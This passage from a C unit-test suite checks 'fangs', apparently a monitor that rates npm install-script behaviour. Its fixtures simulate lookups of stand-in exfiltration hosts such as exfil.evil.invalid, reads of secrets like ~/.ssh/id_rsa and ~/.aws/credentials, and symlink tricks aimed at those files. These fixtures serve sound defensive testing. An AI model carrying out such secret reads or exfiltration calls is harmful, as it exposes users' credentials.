	ck_assert_str_eq(why, "npm exited with status 0, but 2 processes still ran at the duration limit: killed");
}
END_TEST

/* ---- first sight: benign patterns rated by what they are ---- */

static void ev_named(fangs_event_kind kind, int32_t pid, const char *host, uint16_t port, int allowed)
{
	fangs_event *ev = push(kind, pid, 10, "node", true);
	switch (kind) {
	case FANGS_EV_DNS_QUERY:
		ev->family = FANGS_FAMILY_IPV4;
		ev->addr = strdup("127.0.0.53");
		ev->port = 53;
		ev->proto = FANGS_PROTO_UDP;
		ev->qname = strdup(host);
		ev->qtype = 1;
		break;
	case FANGS_EV_TLS_SNI:
		ev->sni = strdup(host);
		ev->port = port;
		break;
	case FANGS_EV_PROXY_REQUEST:
		ev->host = strdup(host);
		ev->port = port;
		ev->method = strdup("CONNECT");
		ev->allowed = allowed;
		break;
	case FANGS_EV_NONE:
	case FANGS_EV_FILE_OPEN:
	case FANGS_EV_EXEC:
	case FANGS_EV_NET_CONNECT:
	case FANGS_EV_PROC_FORK:
	case FANGS_EV_PROC_EXIT:
	case FANGS_EV_SYSCALL:
		ck_abort_msg("not a named kind");
	}
}

/* prebuild-install / node-pre-gyp ask github.com for a prebuilt binary
 * before building from source: a low finding, not a network one. */
START_TEST(download_host_is_low)
{
	const fangs_deviation *d;
	npm_unpacks();
	ev_named(FANGS_EV_DNS_QUERY, 11, "github.com", 0, 0);
	ev_named(FANGS_EV_DNS_QUERY, 11, "objects.githubusercontent.com", 0, 0);
	ev_named(FANGS_EV_TLS_SNI, 11, "GitHub.com.", 443, 0);
	ev_named(FANGS_EV_PROXY_REQUEST, 11, "objects.githubusercontent.com", 443, 1);
	ev_named(FANGS_EV_DNS_QUERY, 11, "exfil.evil.invalid", 0, 0);
	/* refused by the proxy: not a download host */
	ev_named(FANGS_EV_PROXY_REQUEST, 11, "collect.evil.invalid", 443, 0);
	/* a download host's name at a port the list does not give */
	ev_named(FANGS_EV_PROXY_REQUEST, 11, "github.com", 22, 0);
	/* a name below a host listed without "*." is not it */
	ev_named(FANGS_EV_DNS_QUERY, 11, "x.github.com", 0, 0);
	/* a connection is judged by its address, whatever was looked up */
	ev_connect(11, "198.51.100.7", 443);
	evaluate();
	d = expect("script-download-host", "github.com", FANGS_SEV_LOW);
	ck_assert_uint_eq(d->n_evidence, 2); /* the lookup and the server name */
	ck_assert_str_eq(d->origin.package, "pkg");
	d = expect("script-download-host", "objects.githubusercontent.com", FANGS_SEV_LOW);
	ck_assert_uint_eq(d->n_evidence, 2);
	ck_assert_uint_eq(count_rule("script-download-host"), 2);
	ck_assert_ptr_null(find("script-network-not-registry", "objects.githubusercontent.com"));
	expect("script-network-not-registry", "exfil.evil.invalid", FANGS_SEV_HIGH);
	expect("script-network-not-registry", "collect.evil.invalid", FANGS_SEV_HIGH);
	/* only the request at port 22: the lookup and the server name are not */
	d = expect("script-network-not-registry", "github.com", FANGS_SEV_HIGH);
	ck_assert_uint_eq(d->n_evidence, 1);
	ck_assert_int_eq(evidence(d, 0)->port, 22);
	expect("script-network-not-registry", "x.github.com", FANGS_SEV_HIGH);
	expect("script-network-not-registry", "198.51.100.7:443/tcp", FANGS_SEV_HIGH);
	ck_assert_uint_eq(count_rule("script-network-not-registry"), 5);
	for (size_t i = 0; i < hits.count; i++)
		ck_assert_msg(strcmp(hits.items[i].kind, "rule:script-download-host") ||
				      hits.items[i].severity == FANGS_SEV_LOW,
			      "%s", hits.items[i].value);
}
END_TEST

/* The configuration's download hosts count (proxy.allow_hosts, the
 * package's proxy.packages entry; another package's do not), and turning
 * the built-in list off takes its hosts out. */
START_TEST(download_host_from_config)
{
	static const char y[] = "proxy:\n"
				"  allow_hosts: [\"*.dl.example.com\"]\n"
				"  builtin_hosts: false\n"
				"  packages:\n"
				"    pkg: [bin.example.org]\n"
				"    other: [other.example.org]\n";
	fangs_config *cfg = NULL;
	fangs_rules *rs = NULL;
	fangs_rules_options o = FANGS_RULES_OPTIONS_INIT;
	ck_assert_msg(fangs_config_load_string(&cfg, y, strlen(y), "c.yaml") == 0, "%s", fangs_error_last());
	o.config = cfg;
	ck_assert_int_eq(fangs_rules_new(&rs, &o), 0);
	npm_unpacks();
	ev_named(FANGS_EV_DNS_QUERY, 11, "a.dl.example.com", 0, 0);
	ev_named(FANGS_EV_PROXY_REQUEST, 11, "bin.example.org", 443, 1);
	ev_named(FANGS_EV_DNS_QUERY, 11, "other.example.org", 0, 0);
	ev_named(FANGS_EV_DNS_QUERY, 11, "github.com", 0, 0);
	evaluate_with(rs, REGISTRY, -1);
	expect("script-download-host", "a.dl.example.com", FANGS_SEV_LOW);
	expect("script-download-host", "bin.example.org", FANGS_SEV_LOW);
	ck_assert_uint_eq(count_rule("script-download-host"), 2);
	expect("script-network-not-registry", "other.example.org", FANGS_SEV_HIGH);
	expect("script-network-not-registry", "github.com", FANGS_SEV_HIGH);
	ck_assert_uint_eq(count_rule("script-network-not-registry"), 2);
	fangs_rules_free(rs);
	fangs_config_free(cfg);
}
END_TEST

static void ev_read(const char *path, const char *real_path, const char *decoy)
{
	fangs_event *ev = push(FANGS_EV_FILE_OPEN, 11, 10, "node", true);
	ev->path = strdup(path);
	ev->flags = FANGS_OPEN_READ;
	if (real_path)
		ev->real_path = strdup(real_path);
	if (decoy)
		ev->decoy = strdup(decoy);
}

/* A framework loading the project's own .env (dotenv) is low; every other
 * secret, and the project's .env reached under another secret's name, is
 * still critical. */
START_TEST(project_env_is_low)
{
	const fangs_deviation *d;
	npm_unpacks();
	ev_read("/home/u/app/.env", NULL, "/home/u/app/.env");
	ev_read("/root/app/.env.local", NULL, NULL);
	/* relative, the kernel saying where it is */
	ev_read("../../.env", "/home/u/app/.env", "/home/u/app/.env");
	/* a dotenv loader probing a bare name that opened nothing */
	ev_read(".env.production", NULL, NULL);
	evaluate();
	d = expect("project-env-read", "~/app/.env", FANGS_SEV_LOW);
	ck_assert_uint_eq(d->n_evidence, 2);
	expect("project-env-read", "~/app/.env.local", FANGS_SEV_LOW);
	expect("project-env-read", ".env.production", FANGS_SEV_LOW);
	ck_assert_uint_eq(count_rule("project-env-read"), 3);
	ck_assert_uint_eq(count_rule("cred-read-by-script"), 0);

	fangs_event_list_free(&events);
	memset(&events, 0, sizeof(events));
	npm_unpacks();
	ev_read("/home/u/.npmrc", NULL, "/home/u/.npmrc");
	ev_read("/home/u/.env", NULL, NULL);
	ev_read("/home/u/other/.env", NULL, NULL);
	ev_read("/home/u/app/sub/.env", NULL, NULL);
	ev_read("/home/../app/.env", NULL, NULL);
	ev_read("/home/u/app/.env.x/../../.ssh/id_rsa", NULL, NULL);
	/* a link named app/.env to the npmrc decoy: the decoy says what it is */
	ev_read("/home/u/app/.env", "/home/u/.npmrc", "/home/u/.npmrc");
	/* a link named as a secret to the project's .env: a try at the secret */
	ev_read("/home/u/.aws/credentials", "/home/u/app/.env", "/home/u/app/.env");
	/* a hard link to a secret, kernel path unknown: the decoy wins */
	ev_read("/home/u/app/.env.bak", NULL, "/home/u/.ssh/id_rsa");
	evaluate();
	expect("cred-read-by-script", "~/.npmrc", FANGS_SEV_CRITICAL);
	expect("cred-read-by-script", "~/.env", FANGS_SEV_CRITICAL);
	expect("cred-read-by-script", "~/other/.env", FANGS_SEV_CRITICAL);
	expect("cred-read-by-script", "~/app/sub/.env", FANGS_SEV_CRITICAL);
	expect("cred-read-by-script", "~/.ssh/id_rsa", FANGS_SEV_CRITICAL);
	d = expect("cred-read-by-script", "~/app/.env", FANGS_SEV_CRITICAL);
	ck_assert_str_eq(evidence(d, 0)->path, "/home/u/.aws/credentials");
	ck_assert_uint_eq(count_rule("project-env-read"), 0);
}
END_TEST

static Suite *rules_suite(void)
{
	Suite *s = suite_create("rules");
	TCase *tc = tcase_create("recordings");
	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_test(tc, cred_read_by_script);
	tcase_add_test(tc, origin_forged_and_aliases);
	tcase_add_test(tc, network_not_registry);
	tcase_add_test(tc, network_sandbox_endpoints);
	tcase_add_test(tc, oob_services);
	tcase_add_test(tc, dns_tunnel_label);
	tcase_add_test(tc, dns_many_subdomains);
	tcase_add_test(tc, download_and_run);
	tcase_add_test(tc, persistence);
	tcase_add_test(tc, proc_environ_other);
	tcase_add_test(tc, ps_listing_no_environ_theft);
	tcase_add_test(tc, ps_environ_still_hits);
	tcase_add_test(tc, dropped_binary);
	tcase_add_test(tc, detached_process);
	tcase_add_test(tc, detached_process_killed_install);
	tcase_add_test(tc, benign_helper_before_npm);
	tcase_add_test(tc, processes_left_input);
	tcase_add_test(tc, privileged_operations);
	tcase_add_test(tc, events_lost_input);
	tcase_add_test(tc, benign_node_gyp);
	tcase_add_test(tc, benign_esbuild);
	tcase_add_test(tc, benign_core_js);
	tcase_add_test(tc, benign_husky);
	tcase_add_test(tc, benign_npm_network);
	tcase_add_test(tc, download_host_is_low);
	tcase_add_test(tc, download_host_from_config);
	tcase_add_test(tc, project_env_is_low);
	suite_add_tcase(s, tc);

	tc = tcase_create("bypasses");
	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_test(tc, registry_by_host_address);
	tcase_add_test(tc, registry_addrs_resolved);
	tcase_add_test(tc, dropped_after_rename);
	tcase_add_test(tc, dropped_moved_in_package_tree);
	tcase_add_test(tc, dropped_renamed_anywhere);
	tcase_add_test(tc, dropped_through_the_loader);
	tcase_add_test(tc, dropped_interpreter_script);
	tcase_add_test(tc, dropped_compiled_program);
	tcase_add_test(tc, node_resolves_shipped_module);
	tcase_add_test(tc, native_addon_is_loaded_not_run);
	tcase_add_test(tc, fileless);
	suite_add_tcase(s, tc);

	tc = tcase_create("format");
	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_test(tc, matchers);
	tcase_add_test(tc, builtin_set);
	tcase_add_test(tc, bad_rules);
	tcase_add_test(tc, user_rule_and_replacement);
	tcase_add_test(tc, config_section);
	suite_add_tcase(s, tc);

	tc = tcase_create("analyze");
	tcase_add_checked_fixture(tc, db_setup, db_teardown);
	tcase_add_test(tc, first_run_with_hit_waits);
	tcase_add_test(tc, low_hits_do_not_hold);
	tcase_add_test(tc, content_does_not_hold);
	tcase_add_test(tc, failed_install_stays_out_of_the_baseline);
	tcase_add_test(tc, findings_below_the_review_threshold_join);
	tcase_add_test(tc, promote_adds_to_the_baseline);
	tcase_add_test(tc, auto_baseline_does_not_hide_rule_hits);
	tcase_add_test(tc, install_outcomes);
	suite_add_tcase(s, tc);
	return s;
}

int main(void)
{
	SRunner *sr = srunner_create(rules_suite());
	int failed;
	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
